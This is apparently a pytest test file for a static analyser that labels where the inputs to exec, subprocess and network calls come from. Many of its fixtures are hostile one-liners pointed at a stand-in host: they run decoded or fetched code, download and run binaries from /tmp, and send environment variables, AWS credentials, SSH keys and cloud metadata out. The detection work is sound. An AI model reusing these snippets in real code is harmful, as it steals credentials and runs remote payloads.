"""What reaches a use of a capability is marked by where it came from."""
# ruff: noqa: E501 - one line a case

from __future__ import annotations

import pytest

from tests.review.capabilities.python.facts_of import facts, has, told

EXEC = "dynamic code | builtins.exec"
POST = "network | requests.post"

MARKED = [
    # decoded, then run
    ("import base64\nexec(base64.b64decode(x))", EXEC + " | decoded"),
    ("from base64 import b64decode as d\nexec(d(x))", EXEC + " | decoded"),
    ("import base64\ny = base64.b64decode(x)\nz = y.decode()\nexec(z)", EXEC + " | decoded"),
    ("import base64, zlib\nexec(zlib.decompress(base64.b64decode(x)))", EXEC + " | decoded"),
    ("import base64\ndef _d(s):\n    return base64.b64decode(s)\nexec(_d(BLOB))", EXEC + " | decoded"),
    ("import base64\ndef _d(s):\n    return _e(s)\ndef _e(s):\n    return base64.b64decode(s)\nexec(_d(BLOB))", EXEC + " | decoded"),
    ("import base64\ndef _run(s):\n    exec(s)\n_run(base64.b64decode(BLOB))", EXEC + " | decoded"),
    ("import base64\ndef a(s):\n    b(s)\ndef b(s):\n    c(s)\ndef c(s):\n    exec(s)\na(base64.b64decode(BLOB))", EXEC + " | decoded"),
    ("import base64\nclass L:\n    def __init__(self):\n        self.c = base64.b64decode(x)\n    def go(self):\n        exec(self.c)", EXEC + " | decoded"),
    ("import base64\nclass L:\n    def __init__(self, c):\n        self.c = c\n    def go(self):\n        exec(self.c)\nL(base64.b64decode(x)).go()", EXEC + " | decoded"),
    ("import base64, zlib\nsteps = [base64.b64decode, zlib.decompress]\ny = x\nfor s in steps:\n    y = s(y)\nexec(y)", EXEC + " | decoded"),
    ("import base64, zlib\nsteps = {'a': base64.b64decode, 'b': zlib.decompress}\ny = steps['b'](steps['a'](x))\nexec(y)", EXEC + " | decoded"),
    ("import base64\nparts = [a, b, c]\nexec(base64.b64decode(''.join(parts)))", EXEC + " | decoded"),
    ("import base64\nA = 'aW1wb3J0'\nB = 'IG9z'\nexec(base64.b64decode(A + B))", EXEC + " | decoded"),
    ("import base64\nclass C:\n    a = 'aW1wb3J0'\n    b = 'IG9z'\nexec(base64.b64decode(C.a + C.b))", EXEC + " | decoded"),
    ("import base64, os\np = os.path.join(os.path.dirname(__file__), 'data.bin')\nwith open(p, 'rb') as f:\n    exec(base64.b64decode(f.read()))", EXEC + " | decoded"),
    ("import base64, pathlib\nexec(base64.b64decode((pathlib.Path(__file__).parent / 'x.dat').read_bytes()))", EXEC + " | decoded"),
    ("import marshal\nexec(marshal.loads(x))", EXEC + " | decoded"),
    ("import marshal, zlib\nexec(marshal.loads(zlib.decompress(x)))", EXEC + " | decoded"),
    ("import pickle\nexec(pickle.loads(x))", EXEC + " | decoded"),
    ("exec(bytes(b ^ 7 for b in x))", EXEC + " | decoded"),
    ("exec(bytes([b ^ k for b, k in zip(x, y)]))", EXEC + " | decoded"),
    ("exec(''.join(chr(b ^ 7) for b in x))", EXEC + " | decoded"),
    ("exec(''.join([chr(ord(b) ^ 7) for b in x]))", EXEC + " | decoded"),
    ("exec(bytes(map(lambda b: b ^ 7, x)))", EXEC + " | decoded"),
    ("exec(bytes((b - 17 * n) & 0xFF for n, b in enumerate(x)))", EXEC + " | decoded"),
    ("exec(bytes(T[b] for b in x))", EXEC + " | decoded"),
    ("exec(''.join(chr((ord(b) + 3) % 256) for b in x))", EXEC + " | decoded"),
    ("y = bytearray()\nfor b in x:\n    y.append(b ^ 9)\nexec(y)", EXEC + " | decoded"),
    ("exec(x.translate(T))", EXEC + " | decoded"),
    ("exec(bytearray.fromhex(x).decode())", EXEC + " | decoded"),
    ("exec(x[::-1])\nimport codecs\nexec(codecs.decode(x, 'rot13'))", EXEC + " | decoded"),
    ("from cryptography.fernet import Fernet\nexec(Fernet(k).decrypt(x))", EXEC + " | decoded"),
    ("import base64\nexec(compile(base64.b64decode(x), 'x', 'exec'))", EXEC + " | decoded"),
    ("import base64\nc = compile(base64.b64decode(x), 'x', 'exec')\nexec(c, {})", EXEC + " | decoded"),
    ("import base64\ndef g():\n    yield base64.b64decode(x)\nfor y in g():\n    exec(y)", EXEC + " | decoded"),
    ("import base64\n(lambda s: exec(base64.b64decode(s)))(x)", EXEC + " | decoded"),
    ("import base64\nd = lambda s: base64.b64decode(s)\nexec(d(x))", EXEC + " | decoded"),
    ("import base64\ny = []\ny.append(base64.b64decode(x))\nexec(y[0])", EXEC + " | decoded"),
    ("import base64\ny = {}\ny['a'] = base64.b64decode(x)\nexec(y['a'])", EXEC + " | decoded"),
    ("import base64\ny = b''\nfor p in x:\n    y += base64.b64decode(p)\nexec(y)", EXEC + " | decoded"),
    ("import base64\na, b = base64.b64decode(x), 1\nexec(a)", EXEC + " | decoded"),
    ("import base64\nexec(y := base64.b64decode(x))", EXEC + " | decoded"),
    ("import base64\nexec('%s' % base64.b64decode(x))", EXEC + " | decoded"),
    ("import base64\nexec(f'{base64.b64decode(x)}')", EXEC + " | decoded"),
    ("import base64\nglobal_code = base64.b64decode(x)\ndef f():\n    exec(global_code)", EXEC + " | decoded"),
    ("import base64\ndef outer(c):\n    def inner():\n        exec(c)\n    return inner\nouter(base64.b64decode(x))()", EXEC + " | decoded"),
    ("import base64, threading\ndef f(c):\n    exec(c)\nthreading.Thread(target=f, args=(base64.b64decode(x),)).start()", EXEC + " | decoded"),
    ("import base64, os\nos.system(base64.b64decode('aWQ=').decode())", "process | os.system | decoded"),
    ("import base64, types\ntypes.FunctionType(__import__('marshal').loads(base64.b64decode(x)), {})()", "dynamic code | types.FunctionType | decoded"),
    ("import base64, pickle\npickle.loads(base64.b64decode(x))", "deserialisation | pickle.loads | decoded"),
    # fetched, then run
    ("import requests\nexec(requests.get('http://a.example').text)", EXEC + " | fetched"),
    ("import urllib.request as u\nexec(u.urlopen('http://a.example').read())", EXEC + " | fetched"),
    ("import urllib.request as u\nwith u.urlopen('http://a.example') as r:\n    exec(r.read().decode())", EXEC + " | fetched"),
    ("import httpx\nr = httpx.get('http://a.example')\nr.raise_for_status()\nexec(r.content)", EXEC + " | fetched"),
    ("import requests\ns = requests.Session()\nexec(s.get('http://a.example').text)", EXEC + " | fetched"),
    ("import http.client\nc = http.client.HTTPConnection('a.example')\nc.request('GET', '/')\nexec(c.getresponse().read())", EXEC + " | fetched"),
    ("import socket\ns = socket.socket()\ns.connect(('1.2.3.4', 1))\nexec(s.recv(99))", EXEC + " | fetched"),
    ("import aiohttp\nasync def f():\n    async with aiohttp.ClientSession() as s:\n        async with s.get('http://a.example') as r:\n            exec(await r.text())", EXEC + " | fetched"),
    ("import requests, json\nj = json.loads(requests.get('http://a.example').text)\nexec(j['code'])", EXEC + " | fetched"),
    ("import requests\nc = requests.get('http://a.example').json()['c']\nimport os\nos.system(c)", "process | os.system | fetched"),
    ("import requests, base64\nexec(base64.b64decode(requests.get('http://a.example').content))", EXEC + " | fetched+decoded"),
    ("import requests\ndef get():\n    return requests.get('http://a.example').text\ndef run():\n    exec(get())", EXEC + " | fetched"),
    ("import requests\nimport importlib.util\nopen('/tmp/m.py', 'wb').write(requests.get('http://a.example').content)\nimportlib.util.spec_from_file_location('m', '/tmp/m.py')", "dynamic code | importlib.util.spec_from_file_location | fetched+written+temporary place"),
    # written, then run
    ("import requests, os, subprocess\np = '/tmp/x'\nwith open(p, 'wb') as f:\n    f.write(requests.get('http://a.example').content)\nos.chmod(p, 0o755)\nsubprocess.Popen([p])", "process | subprocess.Popen | fetched+written+temporary place+made executable"),
    ("import urllib.request, os\nurllib.request.urlretrieve('http://a.example', '/tmp/x')\nos.system('/tmp/x')", "process | os.system | fetched+written+temporary place"),
    ("import urllib.request, os, tempfile\np = os.path.join(tempfile.gettempdir(), 'x')\nurllib.request.urlretrieve('http://a.example', p)\nos.system(p)", "process | os.system | fetched+written+temporary place"),
    ("import tempfile, subprocess, base64\nf = tempfile.NamedTemporaryFile(delete=False)\nf.write(base64.b64decode(x))\nf.close()\nsubprocess.run(['python', f.name])", "process | subprocess.run | decoded+written+temporary place"),
    ("import pathlib, subprocess, requests\np = pathlib.Path('/tmp/x')\np.write_bytes(requests.get('http://a.example').content)\np.chmod(0o700)\nsubprocess.run([str(p)])", "process | subprocess.run | fetched+written+made executable+temporary place"),
    ("import os, stat, subprocess, requests\nclass D:\n    def get(self):\n        self.p = '/var/tmp/y'\n        with open(self.p, 'wb') as f:\n            f.write(requests.get('http://a.example').content)\n        os.chmod(self.p, stat.S_IRWXU)\n    def go(self):\n        subprocess.Popen(self.p)", "process | subprocess.Popen | fetched+written+made executable"),
    ("import requests\nopen('x.py', 'w').write(requests.get('http://a.example').text)", "file write | builtins.open.write | fetched"),
    # secrets, then sent
    ("import os, requests\nrequests.post('http://a.example', data=dict(os.environ))", POST + " | secret"),
    ("import os, requests\nrequests.post('http://a.example', json={**os.environ})", POST + " | secret"),
    ("import os, requests, json\nrequests.post('http://a.example', data=json.dumps(dict(os.environ)))", POST + " | secret"),
    ("import os, requests\nd = {k: v for k, v in os.environ.items()}\nrequests.post('http://a.example', data=d)", POST + " | secret"),
    ("import os, requests\nd = {}\nfor k, v in os.environ.items():\n    if 'KEY' in k:\n        d[k] = v\nrequests.post('http://a.example', data=d)", POST + " | secret"),
    ("import os, requests\nd = ''\nfor k in os.environ:\n    d += k\nrequests.post('http://a.example', data=d)", POST + " | secret"),
    ("from os import environ as e\nimport requests\nrequests.post('http://a.example', json=e.copy())", POST + " | secret"),
    ("import os, urllib.request, urllib.parse\nurllib.request.urlopen('http://a.example?' + urllib.parse.urlencode(os.environ))", "network | urllib.request.urlopen | secret"),
    ("import os, urllib.request, json\nr = urllib.request.Request('http://a.example', data=json.dumps(dict(os.environ)).encode())\nurllib.request.urlopen(r)", "network | urllib.request.urlopen | secret"),
    ("import os, requests\ndef collect():\n    return dict(os.environ)\ndef send(d):\n    requests.post('http://a.example', data=d)\nsend(collect())", POST + " | secret"),
    ("import requests, os\nrequests.post('http://a.example', data=open(os.path.expanduser('~/.aws/credentials')).read())", POST + " | secret"),
    ("import requests, os\nwith open(os.path.join(os.path.expanduser('~'), '.ssh', 'id_rsa')) as f:\n    requests.post('http://a.example', files={'f': f})", POST + " | secret"),
    ("import requests\nfrom pathlib import Path\nrequests.post('http://a.example', data=(Path.home() / '.ssh' / 'id_rsa').read_text())", POST + " | secret"),
    ("import requests, os\nfor p in ['~/.netrc', '~/.pypirc']:\n    requests.post('http://a.example', data=open(os.path.expanduser(p)).read())", POST + " | secret"),
    ("import requests, os\nrequests.post('http://a.example', data=os.environ['AWS_SECRET_ACCESS_KEY'])", POST + " | secret"),
    ("import requests, os\nrequests.post('http://a.example', data=[os.getenv(k) for k in ('GITHUB_TOKEN', 'NPM_TOKEN')])", POST + " | secret"),
    ("import socket, os\nsocket.gethostbyname(os.environ['AWS_SECRET_ACCESS_KEY'] + '.a.example')", "network | socket.gethostbyname | secret"),
    ("import socket, os\ns = socket.socket()\ns.connect(('a.example', 1))\ns.sendall(str(dict(os.environ)).encode())", "network | socket.socket.sendall | secret"),
    ("import requests\nt = requests.get('http://169.254.169.254/latest/meta-data/iam/').text\nrequests.post('http://a.example', data=t)", POST + " | secret+fetched"),
    ("import requests, keyring\nrequests.post('http://a.example', data=keyring.get_password('a', 'b'))", POST + " | secret"),
    ("import os, subprocess\nsubprocess.run(['curl', '-d', str(dict(os.environ)), 'http://a.example'])", "network | subprocess.run | secret"),
    # what a host tells, then sent
    ("import platform, requests\nrequests.post('http://a.example', data=platform.node())", POST + " | surveyed"),
    ("import getpass, socket, requests\nd = {'u': getpass.getuser(), 'h': socket.gethostname()}\nrequests.post('http://a.example', json=d)", POST + " | surveyed"),
    ("import getpass, requests\nrequests.get(f'http://a.example/{getpass.getuser()}')", "network | requests.get | surveyed"),
]  # fmt: skip

UNMARKED = [
    ("import os, subprocess\nsubprocess.run(['git'], env=os.environ.copy())", "process | subprocess.run", "secret"),
    ("import os, subprocess\ne = dict(os.environ)\ne['A'] = '1'\nsubprocess.run(['git'], env=e)", "process | subprocess.run", "secret"),
    ("import os, subprocess\ne = {**os.environ, 'A': '1'}\nsubprocess.Popen(['git'], env=e)", "process | subprocess.Popen", "secret"),
    ("import os, requests\nrequests.get('http://a.example', headers={'k': os.environ['OPENAI_API_KEY']})", "network | requests.get", "secret"),
    ("import os, requests\nrequests.get(os.environ.get('URL', 'http://a.example'))", "network | requests.get", "secret"),
    ("import base64, requests\nrequests.post('http://a.example', data='x')\ny = base64.b64decode(z)", "network | requests.post", "decoded"),
    ("import base64\ny = base64.b64decode(z)\nexec('1')", "dynamic code | builtins.exec", "decoded"),
    ("import requests\nx = requests.get('http://a.example').text\nimport subprocess\nsubprocess.run(['git'])", "process | subprocess.run", "fetched"),
    ("import requests\nx = len(requests.get('http://a.example').text)\nimport subprocess\nsubprocess.run(['head', str(x)])", "process | subprocess.run", "fetched"),
    ("import base64\ndef d(s):\n    return base64.b64decode(s)\ndef e(s):\n    return s\nexec(e(x))\nd(y)", "dynamic code | builtins.exec", "decoded"),
    ("def f(s):\n    return s\nimport requests\nf(requests.get('http://a.example').text)\nexec(f('1'))", "dynamic code | builtins.exec", "fetched"),
    ("exec('\\n'.join('x%d = %s' % (i, n) for i, n in y))", "dynamic code | builtins.exec", "decoded"),
    ("exec(', '.join(set(x) - set(y)))", "dynamic code | builtins.exec", "decoded"),
    ("exec(', '.join(n + s for n in y))", "dynamic code | builtins.exec", "decoded"),
    ("exec(', '.join(n % s for n in y))", "dynamic code | builtins.exec", "decoded"),
    ("exec(''.join(d[n] for n in y))", "dynamic code | builtins.exec", "decoded"),
    ("exec(f'def f({chr(97 + i)}): pass')", "dynamic code | builtins.exec", "decoded"),
    ("exec('def f(x):\\n' + '    ' * (i - 1) + 'pass')", "dynamic code | builtins.exec", "decoded"),
    ("exec('x' * (n - 1))", "dynamic code | builtins.exec", "decoded"),
    ("exec(open('x').read().replace('a', 'b').encode('utf-8').decode('utf-8'))", "dynamic code | builtins.exec", "decoded"),
    ("import subprocess\nopen('a.txt', 'w').write('x')\nsubprocess.run(['cat', 'b.txt'])", "process | subprocess.run", "written"),
    ("import socket\ns = socket.socket()\ns.connect(('a.example', 1))", "network | socket.socket.connect", "fetched"),
]  # fmt: skip


@pytest.mark.parametrize(("source", "wanted"), MARKED)
def test_what_reaches_a_use_is_marked(source, wanted):
    found = facts(source)
    assert has(found, wanted), told(found)


@pytest.mark.parametrize(("source", "wanted", "without"), UNMARKED)
def test_what_does_not_reach_a_use_does_not_mark_it(source, wanted, without):
    found = facts(source)
    assert has(found, wanted), told(found)
    assert not has(found, f"{wanted} | {without}"), told(found)
